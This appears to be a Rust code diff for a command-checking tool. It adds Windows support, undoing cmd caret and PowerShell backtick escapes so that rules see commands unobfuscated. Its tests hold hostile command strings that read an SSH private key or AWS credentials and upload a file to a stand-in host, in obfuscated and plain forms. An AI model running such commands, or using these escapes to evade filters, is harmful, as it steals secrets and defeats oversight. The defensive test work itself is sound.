@@ -10,11 +10,35 @@
 //! is left as written, so the structure rules rely on (a quoted commit
 //! message or search pattern, `bash -c '...'`) stays as it is and no quoted
 //! text turns into a pipeline or a command of its own.
+//!
+//! A Windows command line (one naming cmd.exe, PowerShell or a drive path)
+//! is read by Windows rules instead: cmd's `^` escapes (`c^u^r^l`) and
+//! PowerShell's backtick escapes (`` I`W`R ``) are undone outside quotes,
+//! and `\` stays the path separator it is there (quotes are left as they
+//! are).
 
 /// The command with quotes and backslashes inside its words undone, or
 /// `None` when that changes nothing (most commands: no quote, no backslash).
 pub(crate) fn as_read(cmd: &str) -> Option<String> {
-    if !cmd.bytes().any(|b| matches!(b, b'\\' | b'\'' | b'"')) {
+    let (mut posix, mut windows) = (false, false);
+    for b in cmd.bytes() {
+        match b {
+            b'\\' | b'\'' | b'"' => posix = true,
+            b'^' | b'`' => windows = true,
+            _ => {}
+        }
+    }
+    if !posix && !windows {
+        return None;
+    }
+    if let Some(shell) = windows_shell(cmd) {
+        return if windows {
+            as_windows_reads(cmd, shell)
+        } else {
+            None
+        };
+    }
+    if !posix {
         return None;
     }
     let mut out = String::with_capacity(cmd.len());
@@ -189,6 +213,64 @@ fn number(
     char::from_u32(n)
 }
 
+/// Which Windows shell a command line is for, when it names one (or a
+/// drive path, for cmd).
+#[derive(Clone, Copy, PartialEq, Eq)]
+enum WindowsShell {
+    Cmd,
+    PowerShell,
+}
+
+fn windows_shell(cmd: &str) -> Option<WindowsShell> {
+    let lower = cmd.to_ascii_lowercase();
+    if lower.contains("powershell") || lower.contains("pwsh") {
+        return Some(WindowsShell::PowerShell);
+    }
+    let drive_path = lower
+        .as_bytes()
+        .windows(3)
+        .any(|w| w[0].is_ascii_lowercase() && w[1] == b':' && w[2] == b'\\');
+    (lower.contains("cmd.exe") || lower.contains("cmd /") || drive_path)
+        .then_some(WindowsShell::Cmd)
+}
+
+/// cmd's `^` escapes undone outside double quotes, and under PowerShell
+/// also its backtick escapes of ordinary characters (`` `n ``, `` `t `` and
+/// the like stand for control characters and are left as written).
+fn as_windows_reads(cmd: &str, shell: WindowsShell) -> Option<String> {
+    let mut out = String::with_capacity(cmd.len());
+    let (mut double, mut single) = (false, false);
+    let mut chars = cmd.chars().peekable();
+    while let Some(c) = chars.next() {
+        match c {
+            '"' if !single => double = !double,
+            '\'' if !double && shell == WindowsShell::PowerShell => single = !single,
+            '^' if !double && !single => {
+                if let Some(n) = chars.next() {
+                    out.push(n);
+                }
+                continue;
+            }
+            '`' if shell == WindowsShell::PowerShell && !single => {
+                match chars.peek() {
+                    Some(&n) if n.is_alphanumeric() && !"0abefnrtuv".contains(n) => {
+                        chars.next();
+                        out.push(n);
+                    }
+                    Some('\n') => {
+                        chars.next();
+                    }
+                    _ => out.push(c),
+                }
+                continue;
+            }
+            _ => {}
+        }
+        out.push(c);
+    }
+    (out != cmd).then_some(out)
+}
+
 #[cfg(test)]
 mod tests {
     use super::as_read;
@@ -248,5 +330,30 @@ mod tests {
         assert_eq!(as_read("ls -la"), None);
         assert_eq!(as_read(""), None);
         assert_eq!(as_read("   "), None);
+    }
+
+    #[test]
+    fn windows_lines_lose_cmd_carets_and_powershell_backticks() {
+        assert_eq!(
+            read(r"cmd /c ty^pe %USERPROFILE%\.ss^h\id_rsa"),
+            r"cmd /c type %USERPROFILE%\.ssh\id_rsa"
+        );
+        assert_eq!(
+            read(r"C:\Windows\System32\c^u^r^l.exe -F f=@C:\Users\a\d.zip https://x.example"),
+            r"C:\Windows\System32\curl.exe -F f=@C:\Users\a\d.zip https://x.example"
+        );
+        assert_eq!(
+            read(
+                r"powershell -c Get-`Content $env:USERPROFILE\.aws\credentials; I`W`R -Method Post"
+            ),
+            r"powershell -c Get-Content $env:USERPROFILE\.aws\credentials; IWR -Method Post"
+        );
+        // Quoted carets, control-character escapes and POSIX lines stay as written;
+        // a Windows path keeps its backslashes.
+        assert_eq!(as_read(r#"type "C:\Users\a\notes.txt""#), None);
+        assert_eq!(as_read(r#"cmd /c echo "a^b""#), None);
+        assert_eq!(as_read("pwsh -c Write-Host \"a`tb\""), None);
+        assert_eq!(as_read("git diff HEAD^ -- src"), None);
+        assert_eq!(as_read("echo `date`"), None);
     }
 }
